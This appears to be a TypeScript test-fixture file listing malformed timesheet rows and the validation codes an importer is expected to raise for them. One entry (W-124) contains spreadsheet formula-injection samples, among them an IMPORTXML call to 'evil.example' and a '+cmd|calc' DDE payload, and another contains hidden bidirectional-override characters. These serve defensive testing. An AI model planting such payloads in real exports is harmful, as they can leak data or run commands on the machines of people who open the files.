import { type Cells, found, type Malformed, many, told } from './malformed';

export const TIME_COLUMNS = [
  ...['ID', 'Date', 'Person', 'Client', 'Project', 'Task', 'Notes', 'Hours'],
  ...['From', 'End date', 'To', 'Time zone', 'Billable', 'Rate', 'Currency'],
];

export const GOOD_TIME: Cells = {
  Date: '2026-03-02',
  Person: 'Ana',
  Client: 'Acme',
  Project: 'Alpha',
  Task: 'Design',
  Hours: '1.5',
  Billable: 'yes',
  Rate: '120.00',
  Currency: 'USD',
};

const inBerlin = { 'Time zone': 'Europe/Berlin', Hours: '' };
const LONG = 'x'.repeat(60_000);

export const malformedTime: readonly Malformed[] = [
  ...many(1, 'E-101', [
    ['it ends 09:00 before it starts 17:00', { Hours: '', From: '17:00', To: '09:00' }],
    ['it ends 9:00 am before it starts 5:00 pm', { Hours: '', From: '5:00 pm', To: '9:00 am' }],
    [
      'it ends 10:00 before it starts 09:00',
      { Date: '2026-03-03', 'End date': '2026-03-02', From: '09:00', To: '10:00' },
    ],
  ]),
  ...found(
    'review',
    many(2, 'E-102', [
      ['lasts 0 minutes', { Hours: '0' }],
      ['lasts 0 minutes', { Hours: '', From: '09:00', To: '09:00' }],
    ]),
  ),
  ...found(
    'review',
    many(3, 'E-103', [
      ['-1:30 is below zero', { Hours: '-1.5' }],
      ['-1:30 is below zero', { Hours: '\u22121.5' }],
      ['-0:45 is below zero', { Hours: '-0:45' }],
    ]),
  ),
  ...found(
    'review',
    many(4, 'E-104', [
      ['26:00 is longer than the longest entry', { Hours: '26' }],
      ['30:15 is longer than the longest entry', { Hours: '30:15' }],
    ]),
  ),
  ...many(5, 'W-105', [['the timer is still running', { Hours: '', From: '09:00' }]]),
  ...many(6, 'E-106', [
    ['it says 60 min, its times give 75', { Hours: '1', From: '09:00', To: '10:15' }],
    ['it says 90 min, its times give 60', { Hours: '1:30', From: '9:00 AM', To: '10:00 AM' }],
  ]),
  ...many(7, 'E-107', [
    [
      '2026-03-29 02:30 does not exist in Europe/Berlin',
      { ...inBerlin, Date: '2026-03-29', From: '02:30', To: '05:00' },
    ],
    [
      '2026-03-08 02:15 does not exist in America/New_York',
      {
        'Time zone': 'America/New_York',
        Date: '2026-03-08',
        From: '01:00',
        To: '02:15',
        Hours: '1.25',
      },
    ],
  ]),
  ...many(8, 'E-108', [
    [
      '2025-10-26 02:30 occurs twice in Europe/Berlin; the offset is missing',
      { ...inBerlin, Date: '2025-10-26', From: '02:30', To: '05:00' },
    ],
  ]),
  ...many(9, 'E-109', [
    [
      'its times have no offset and could be 3:00 or 2:00',
      { Date: '2026-03-08', Hours: '', From: '01:00', To: '04:00' },
    ],
  ]),
  ...many(10, 'E-110', [
    ["'EST5' is an unknown time zone", { 'Time zone': 'EST5' }],
    ["'Mars/Phobos' is an unknown time zone", { 'Time zone': 'Mars/Phobos' }],
  ]),
  ...many(11, 'E-111', [
    ['0001-01-01 lies outside the years 2000 to 2100', { Date: '0001-01-01' }],
    ['9999-12-31 lies outside the years 2000 to 2100', { Date: '9999-12-31' }],
  ]),
  ...found(
    'review',
    many(12, 'E-112', [
      ['2026-04-16 lies in the future; today is 2026-04-02', { Date: '2026-04-16' }],
      ['2027-03-02 lies in the future', { Date: '2027-03-02' }],
    ]),
  ),
  ...found(
    'review',
    many(14, 'E-114', [
      ["Client 'Nobody Ltd' has no customer in the ledger", { Client: 'Nobody Ltd' }],
      ["Task 'Juggling' has no item in the ledger", { Task: 'Juggling' }],
    ]),
  ),
  ...found(
    'review',
    many(15, 'E-115', [
      ["Project 'Alpha' has no client", { Client: '' }],
      ['It belongs to no project', { Client: '', Project: '' }],
    ]),
  ),
  {
    entry: 17,
    code: 'W-117',
    says: "id '7' stands on line 3 already and says the same",
    rows: [{ ID: '7' }, { ID: '7' }],
    arrive: 1,
  },
  {
    entry: 18,
    code: 'E-118',
    says: "id '7' stands on line 3 already with something else; this later line is taken",
    rows: [{ ID: '7' }, { ID: '7', Hours: '2' }],
    arrive: 1,
  },
  {
    entry: 19,
    code: 'W-119',
    says: 'overlaps',
    rows: [
      { Date: '2026-03-09', Hours: '', From: '09:00', To: '10:30' },
      { Date: '2026-03-09', Hours: '', From: '10:00', To: '11:00' },
    ],
    arrive: 2,
    by: 'review',
  },
  ...many(20, 'E-120', [
    ['the billable flag is missing', { Billable: '' }],
    ["billable 'maybe' is neither yes nor no", { Billable: 'maybe' }],
    ["billable '2' is neither yes nor no", { Billable: '2' }],
  ]),
  ...many(23, 'E-123', [
    ["id '1.23457E+17' has lost digits", { ID: '1.23457E+17' }],
    ["id '8,12E+12' has lost digits", { ID: '8,12E+12' }],
  ]),
  ...told(
    many(24, 'W-124', [
      ["starts with '='", { Notes: '=IMPORTXML("https://evil.example")' }],
      ["starts with '='", { Notes: '@SUM(A1)' }],
      ["starts with '='", { Notes: '+cmd|calc' }],
    ]),
  ),
  ...told(many(25, 'W-125', [['a text was cut at 50000 signs', { Notes: LONG }]])),
  ...told(
    many(26, 'W-126', [
      ['hidden signs were taken out', { Notes: 'a\u0000b' }],
      ['hidden signs were taken out', { Notes: 'a\u202eb' }],
      ['hidden signs were taken out', { Notes: 'a\u200eb' }],
    ]),
  ),
  ...found('price', many(27, 'E-127', [['No rate for', { Rate: '' }]])),
  ...many(28, 'E-128', [
    ['it names no person', { Person: '' }],
    ["'[Deleted user]' is nobody whom we could pay", { Person: '[Deleted user]' }],
    ["'Former employee' is nobody", { Person: 'Former employee' }],
  ]),
  ...many(56, 'E-311', [
    ["'03/04/2026': day and month are unclear", { Date: '03/04/2026' }],
    ["'3-4-26': day and month are unclear", { Date: '3-4-26' }],
  ]),
  ...many(57, 'E-312', [
    ["'2026-02-30' is no such date", { Date: '2026-02-30' }],
    ["'31.04.2026' is no such date", { Date: '31.04.2026' }],
    ["'31/04' is no such date", { Date: '31/04' }],
    ["'soon' is no such date", { Date: 'soon' }],
    ["'' is no such date", { Date: '' }],
    ["'29 Feb 2026' is no such date", { Date: '29 Feb 2026' }],
  ]),
  ...many(58, 'E-312', [["'46100' is no such date", { Date: '46100' }]]),
  ...many(59, 'E-313', [
    ["duration '1:75' has more than 59 minutes", { Hours: '1:75' }],
    ["duration '1h90' has more than 59 minutes", { Hours: '1h90' }],
    ["duration 'soon' is no duration", { Hours: 'soon' }],
    ["duration 'PT' is no duration", { Hours: 'PT' }],
    ["duration '1:30:99' has more than 59", { Hours: '1:30:99' }],
    ["duration '' is missing", { Hours: '' }],
  ]),
  {
    entry: 59,
    code: 'E-313',
    says: "duration '90' could be hours, minutes or seconds",
    rows: [{ Hours: '90' }],
    mapping: { durationForm: 'clock' },
    good: { Hours: '1:30' },
  },
  ...many(60, 'W-314', [
    ["row 'Total' skipped", { ID: 'Total', Date: '', Person: '', Client: '', Project: '' }],
    ["row 'Summe:' skipped", { ID: 'Summe:', Date: '', Person: '', Client: '', Project: '' }],
    ["row 'Grand total' skipped", { Date: 'Grand total', Person: '', Client: '' }],
  ]),
  ...many(48, 'E-304', [['16 fields, expected 15', { Currency: 'USD,extra' }]]),
  ...many(36, 'E-208', [
    ["'NaN' is not an amount", { Rate: 'NaN' }],
    ["'1e309' is not an amount", { Rate: '1e309' }],
  ]),
  ...many(33, 'E-205', [["'EURO' is not an ISO 4217 code", { Currency: 'EURO' }]]),
  ...many(32, 'E-204', [["amount '€120' is not in USD", { Rate: '€120' }]]),
];
